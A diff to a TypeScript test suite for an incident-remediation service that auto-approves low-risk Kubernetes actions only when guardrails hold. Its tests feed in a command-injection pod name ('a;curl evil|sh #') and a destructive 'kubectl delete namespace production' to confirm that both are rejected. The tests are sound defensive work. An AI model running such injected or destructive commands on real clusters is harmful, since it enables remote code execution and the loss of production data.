@@ -21,6 +21,18 @@ function harness(vars: Record<string, string> = {}) {
   return { notify, execute, deadLetters, run: (bodies: unknown[]) => deliver(worker, env, "awoooi-classify", bodies) };
 }
 
+/** classify with the reference executor (and its fake kubectl) answering plans. */
+const withExecutor = (vars: Record<string, string> = {}) =>
+  harness({ EXECUTOR_URL: testEnv.TEST_REFERENCE_EXECUTOR_URL!, EXECUTOR_SECRET: testEnv.TEST_REFERENCE_EXECUTOR_SECRET!, ...vars });
+
+const lowRisk = (suggested_action: { operation: "DELETE_POD" | "SCALE_DEPLOYMENT" | "RESTART_DEPLOYMENT"; command: string; description?: string }) => ({
+  risk_level: "low" as const,
+  provider: "ollama" as const,
+  model: "llama3.2",
+  confidence: 92,
+  suggested_action: { description: "d", ...suggested_action },
+});
+
 describe("classify queue consumer", () => {
   it.each([
     ["medium", 1],
@@ -43,7 +55,7 @@ describe("classify queue consumer", () => {
   });
 
   it("auto-approves a low-risk model verdict when every guardrail holds, with an audit row saying so", async () => {
-    const { notify, execute, run } = harness({ AUTO_APPROVE_NAMESPACES: "production" });
+    const { notify, execute, run } = withExecutor({ AUTO_APPROVE_NAMESPACES: "production" });
     const hour = Math.floor(Date.now() / 3_600_000);
     const repairsBefore = Number((await redisForTests().get<string>(trustKeys.repairs(hour))) ?? 0);
     const message = await seedAnalyzedIncident(db, {
@@ -56,12 +68,23 @@ describe("classify queue consumer", () => {
     await run([message]);
     const approval = await createApprovalStore(db).getByIncident(message.payload.incident_id);
     expect(approval).toMatchObject({ status: "APPROVED", autoApproved: true, requiredSignatures: 0 });
+    // The executor's plan (a server dry run against the fake kubectl) is kept with every guardrail's verdict.
+    expect(approval?.action.plan).toMatchObject({ facts: { ready_replicas: 3, target_ready: true }, dry_run: { ok: true } });
+    expect(approval?.action.guardrails.every((g) => g.passed)).toBe(true);
+    expect(approval?.reasons.join(" ")).toContain("another replica ready");
     expect((await createApprovalStore(db).auditTrail(approval!.id)).map((a) => a.action)).toEqual(["approval.auto_approved"]);
     expect(notify.sent[0]?.payload.kind).toBe("auto_approved");
 
     // The hand-off is written with the approval and announced on the execute queue.
     const execution = await db.selectFrom("executions").selectAll().where("approval_id", "=", approval!.id).executeTakeFirstOrThrow();
-    expect(execution).toMatchObject({ status: "requested", automatic: true, operation: "DELETE_POD" });
+    expect(execution).toMatchObject({
+      status: "requested",
+      automatic: true,
+      dry_run: true,
+      operation: "DELETE_POD",
+      argv: ["kubectl", "delete", "pod", "api-server-7d4b8c9f5-xk2m3", "-n", "production", "--wait=false"],
+      action_digest: approval?.action.digest,
+    });
     expect(execute.sent).toEqual([
       expect.objectContaining({ id: `execute:${execution.id}`, payload: expect.objectContaining({ execution_id: execution.id }) }),
     ]);
@@ -69,6 +92,62 @@ describe("classify queue consumer", () => {
     expect(Number(await redisForTests().get<string>(trustKeys.repairs(hour)))).toBeGreaterThanOrEqual(repairsBefore + 1);
     const incident = await createIncidentStore(db).get(message.payload.incident_id);
     expect(incident?.triage).toMatchObject({ decision: "auto_approve", risk_level: "low", required_signatures: 0 });
+  });
+
+  it("never auto-approves without a plan: no executor, no automatic action", async () => {
+    const { run } = harness({ AUTO_APPROVE_NAMESPACES: "production" });
+    const message = await seedAnalyzedIncident(db, lowRisk({ operation: "DELETE_POD", command: "" }));
+    await run([message]);
+    const approval = await createApprovalStore(db).getByIncident(message.payload.incident_id);
+    expect(approval).toMatchObject({ status: "PENDING", autoApproved: false });
+    expect(approval?.reasons.join(" ")).toContain("no plan (no executor configured)");
+  });
+
+  it("runs the alert's own pod deletion, never the namespace deletion a verdict's text asks for", async () => {
+    const { execute, run } = withExecutor({ AUTO_APPROVE_NAMESPACES: "production" });
+    const message = await seedAnalyzedIncident(db, lowRisk({ operation: "DELETE_POD", command: "kubectl delete namespace production" }));
+    await run([message]);
+    const approval = await createApprovalStore(db).getByIncident(message.payload.incident_id);
+    expect(approval?.action).toMatchObject({
+      argv: ["kubectl", "delete", "pod", "api-server-7d4b8c9f5-xk2m3", "-n", "production", "--wait=false"],
+      note: "kubectl delete namespace production",
+    });
+    const execution = await db.selectFrom("executions").selectAll().where("approval_id", "=", approval!.id).executeTakeFirstOrThrow();
+    expect(JSON.stringify([execution.argv, execution.command, execution.action])).not.toContain("namespace production");
+    expect(execute.sent).toHaveLength(1);
+  });
+
+  it("leaves a scale with two --replicas values to a human, with no executable action", async () => {
+    const { execute, run } = withExecutor({ AUTO_APPROVE_NAMESPACES: "production" });
+    const message = await seedAnalyzedIncident(
+      db,
+      lowRisk({ operation: "SCALE_DEPLOYMENT", command: "kubectl scale deployment/api-server --replicas=2 --replicas=500" }),
+    );
+    await run([message]);
+    const approval = await createApprovalStore(db).getByIncident(message.payload.incident_id);
+    expect(approval).toMatchObject({ status: "PENDING", action: { typed: null, argv: null, digest: null } });
+    expect(approval?.reasons.join(" ")).toContain("ambiguous");
+    expect(execute.sent).toHaveLength(0);
+  });
+
+  it("puts no hostile pod name into any command", async () => {
+    const { run } = withExecutor({ AUTO_APPROVE_NAMESPACES: "production" });
+    const message = await seedAnalyzedIncident(db, undefined, { alert: { target_resource: "a;curl evil|sh #", alert_type: "PodRestarting" } });
+    await run([message]);
+    const approval = await createApprovalStore(db).getByIncident(message.payload.incident_id);
+    expect(approval?.action.argv).toBeNull();
+    expect(approval?.action.command).not.toContain("curl");
+    expect(approval?.action.issues.join(" ")).toContain("not a valid Kubernetes name");
+  });
+
+  it("asks a human when the plan says the pod is the last ready replica", async () => {
+    const { run } = withExecutor({ AUTO_APPROVE_NAMESPACES: "production" });
+    const message = await seedAnalyzedIncident(db, lowRisk({ operation: "DELETE_POD", command: "" }), { alert: { target_resource: "solo-7d4b8c9f5-abcde" } });
+    await run([message]);
+    // The fake kubectl runs "solo…" workloads with one replica.
+    const approval = await createApprovalStore(db).getByIncident(message.payload.incident_id);
+    expect(approval).toMatchObject({ status: "PENDING", action: { plan: { facts: { ready_replicas: 1, target_ready: true } } } });
+    expect(approval?.reasons.join(" ")).toContain("only 0 other ready replica(s) would remain");
   });
 
   it("sends a link-less notice and creates no approval when no safe action exists", async () => {
